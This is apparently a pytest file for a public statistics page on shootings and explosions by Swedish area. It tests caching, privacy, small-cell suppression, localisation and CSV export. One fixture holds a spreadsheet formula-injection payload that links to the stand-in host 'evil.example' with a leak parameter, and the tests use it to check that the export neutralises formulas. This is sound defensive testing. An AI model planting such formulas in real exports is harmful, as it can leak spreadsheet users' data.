"""The public statistics page over HTTP: no login, no cookie, no access-log entry, cacheable; the CSV
with its headers and neutralised formulas; Swedish labels; nothing person- or group-level in any
answer (`dash`: the dashboard harness of test_dashboard_http, with its groups, people and cases)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from pydantic import ValidationError

from services.contracts import CloudEvent
from services.dashboard import public as public_module
from services.dashboard.settings import DashboardSettings
from tests.unit.dashboard.test_dashboard_brief import PEOPLE
from tests.unit.dashboard.test_dashboard_http import USERS, Harness
from tests.unit.dashboard.test_dashboard_stats import report

FORMULA_AREA = '=HYPERLINK("http://evil.example/?leak=1","Seved")'


def public_events() -> list[CloudEvent]:
    events = [report(f"ev-shot-{n}", f"inc-shot-{n}", "2023-06-10T12:00:00Z", area="Seved",
                     suspected=["norra"]) for n in range(4)]
    events.append(report("ev-shot-injured", "inc-shot-injured", "2023-12-31T23:30:00Z", area="Seved",
                         injured=1))                                                  # 2024 in Stockholm
    events += [report(f"ev-expl-{n}", f"inc-expl-{n}", "2023-03-01T12:00:00Z", kind="explosion",
                      area="Rosengård", confirmed=n == 0) for n in range(3)]
    events.append(report("ev-formula", "inc-formula", "2023-05-01T12:00:00Z", area=FORMULA_AREA))
    return events


PRIVATE = ["norra", "sodra", "Norra gänget", "inc-shot-", "inc-expl-", "inc-formula", "ev-shot-", "ev-expl",
           "ci-1", "ci-2", "2023-06-10", "2023-12-31", "12:00", "23:30", *PEOPLE]
"""Group ids and names, incident and event ids, call-ins, exact dates and times, person references
of the harness's scenario and of `public_events`."""


def test_anyone_gets_the_page_without_login_cookie_or_access_log_entry_and_it_is_cacheable(
        dash: Harness) -> None:
    dash.pipe.post(*public_events())
    answer = dash.client.get("/public/stats?lang=en", follow_redirects=False)
    assert answer.status_code == 200, answer.text
    assert "set-cookie" not in answer.headers
    assert answer.headers["cache-control"] == "public, max-age=300"
    assert "Accept-Language" in answer.headers["vary"]
    assert dash.client.cookies.get("gvi_session") is None and not dash.access.entries
    assert "<script" not in answer.text
    body = answer.text
    assert "Confirmed shootings" in body and "Explosions (all reported)" in body
    assert "of which confirmed" in body
    assert "every reported explosion, confirmed or not" in body
    row_2023 = body.split('<th scope="row">2023</th>')[1].split("</tr>")[0]
    assert [c.split("<")[0] for c in row_2023.split('class="num">')[1:]] == ["5", "5", "0", "0", "3", "&lt;3"]
    assert "&lt;3" in body and "<3<" not in body


def test_the_same_answer_for_someone_logged_in_and_no_log_of_their_read(dash: Harness) -> None:
    dash.pipe.post(*public_events())
    anonymous = dash.client.get("/public/stats?lang=en").text
    dash.login("analyst")
    answer = dash.client.get("/public/stats?lang=en")
    assert answer.text == anonymous and "set-cookie" not in answer.headers and not dash.access.entries


def test_swedish_by_parameter_or_by_the_browsers_language(dash: Harness) -> None:
    dash.pipe.post(*public_events())
    swedish = dash.client.get("/public/stats?lang=sv").text
    assert '<html lang="sv">' in swedish
    assert "Bekräftade skjutningar" in swedish and "Sprängningar (alla rapporterade)" in swedish
    assert "varav bekräftade" in swedish and "alla rapporterade sprängningar" in swedish
    assert "Totalt" in swedish and "svensk tid" in swedish
    by_browser = dash.client.get("/public/stats", headers={"accept-language": "sv-SE,sv;q=0.9"}).text
    assert by_browser == swedish
    assert '<html lang="en">' in dash.client.get("/public/stats", headers={"accept-language": "en"}).text


def test_the_csv_has_the_pages_cells_its_headers_and_no_formula(dash: Harness) -> None:
    dash.pipe.post(*public_events())
    answer = dash.client.get("/public/stats.csv?lang=sv&granularity=month")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="gvi-statistics-month-sv.csv"'
    assert answer.headers["cache-control"] == "public, max-age=300" and "set-cookie" not in answer.headers
    assert answer.content.startswith(b"\xef\xbb\xbf") and b'"' in answer.content
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows[0] == ["Område", "År", "Månad", "Bekräftade skjutningar", "Skjutningar utan skadade",
                       "Döda vid skjutningar", "Skadade vid skjutningar", "Sprängningar (alla rapporterade)",
                       "varav bekräftade"]
    by_month = {(r[1], r[2]): r[3:] for r in rows[1:-1]}
    assert by_month[("2023", "03")] == ["0", "0", "0", "0", "3", "<3"]
    # June's 4 is withheld: the year's 5 (on the yearly page) less June would give back May's one
    assert by_month[("2023", "05")] == ["<3", "<3", "0", "0", "0", "0"]
    assert by_month[("2023", "06")] == ["..", "..", "0", "0", "0", "0"]
    assert by_month[("2024", "01")] == ["3", "0", "0", "3", "0", "0"]    # with the harness's two
    seved = list(csv.reader(io.StringIO(dash.client.get(
        "/public/stats.csv", params={"area": "Seved", "granularity": "month"}).content.decode("utf-8-sig"))))
    assert seved[-2][1:] == ["2024", "01", "<3", "0", "0", "<3", "0", "0"]
    assert rows[-1][:3] == ["Alla områden", "Totalt", ""] and rows[-1][3:] == ["8", "5", "0", "3", "3", "<3"]
    formula = dash.client.get("/public/stats.csv", params={"area": FORMULA_AREA, "lang": "en"})
    assert formula.status_code == 200
    cells = [c for r in csv.reader(io.StringIO(formula.content.decode("utf-8-sig"))) for c in r]
    assert "'" + FORMULA_AREA in cells and FORMULA_AREA not in cells


def test_the_area_filter_and_an_unknown_area(dash: Harness) -> None:
    dash.pipe.post(*public_events())
    page = dash.client.get("/public/stats", params={"area": "Rosengård", "lang": "en"})
    assert page.status_code == 200 and "<caption>Rosengård: Per year</caption>" in page.text
    assert '<option value="Rosengård" selected>' in page.text
    assert "&lt;option" not in page.text and FORMULA_AREA not in page.text     # escaped in the list
    csv_rows = list(csv.reader(io.StringIO(dash.client.get(
        "/public/stats.csv", params={"area": "Rosengård"}).content.decode("utf-8-sig"))))
    assert [r[:2] for r in csv_rows[1:]] == [["Rosengård", "2023"], ["Rosengård", "2024"],
                                             ["Rosengård", "Total"]]
    missing = dash.client.get("/public/stats", params={"area": "Nowhere"})
    assert missing.status_code == 404 and "set-cookie" not in missing.headers
    dash.pipe.post(report("ev-later", "inc-later", "2024-02-01T12:00:00Z", area="Nowhere"))
    later = dash.client.get("/public/stats", params={"area": "Nowhere", "lang": "en"})
    assert later.status_code == 200 and "<caption>Nowhere: Per year</caption>" in later.text


def test_no_answer_holds_a_group_an_incident_a_person_or_an_exact_time(dash: Harness) -> None:
    dash.pipe.post(*public_events())
    for path in ("/public/stats", "/public/stats.csv"):
        for params in ({}, {"granularity": "month"}, {"area": "Seved"}, {"lang": "sv"}):
            body = dash.client.get(path, params=params).content.decode("utf-8-sig")
            leaked = [p for p in PRIVATE if p in body]
            assert leaked == [], (path, params, leaked)


def test_every_view_comes_from_one_grid_computed_once_per_change_of_the_incidents(
        dash: Harness, monkeypatch: pytest.MonkeyPatch) -> None:
    built: list[int] = []
    real = public_module.public_grid

    def counting(*args: Any, **kw: Any) -> Any:
        built.append(1)
        return real(*args, **kw)

    monkeypatch.setattr(public_module, "public_grid", counting)
    dash.pipe.post(*public_events())
    for path in ("/public/stats", "/public/stats.csv"):
        for params in ({}, {"granularity": "month"}, {"area": "Seved"},
                       {"area": "Seved", "granularity": "month"}, {"area": "Nowhere"}):
            dash.client.get(path, params=params)
    assert len(built) == 1
    years = list(csv.reader(io.StringIO(dash.client.get(
        "/public/stats.csv", params={"area": "Seved"}).content.decode("utf-8-sig"))))
    months = list(csv.reader(io.StringIO(dash.client.get(
        "/public/stats.csv", params={"area": "Seved", "granularity": "month"}).content.decode("utf-8-sig"))))
    assert years[-1][2:] == months[-1][3:] == ["5", "..", "0", "<3", "0", "0"]   # one total, the same in both
    dash.pipe.post(report("ev-later", "inc-later", "2024-02-01T12:00:00Z", area="Seved"))
    dash.client.get("/public/stats")
    assert len(built) == 2


@pytest.mark.parametrize(("value", "accepted"), [("2", False), ("3", True), ("10", True)])
def test_a_threshold_that_would_show_every_one_as_below_two_is_refused(value: str, accepted: bool) -> None:
    """Zeros are shown, so `<2` would always be exactly 1: the setting starts at 3."""
    settings = {"GVI_ENV": "development", "GVI_USERS_FILE": USERS, "GVI_PUBLIC_MIN_CELL": value}
    if accepted:
        assert DashboardSettings(**settings).public_min_cell == int(value)
    else:
        with pytest.raises(ValidationError, match="GVI_PUBLIC_MIN_CELL"):
            DashboardSettings(**settings)
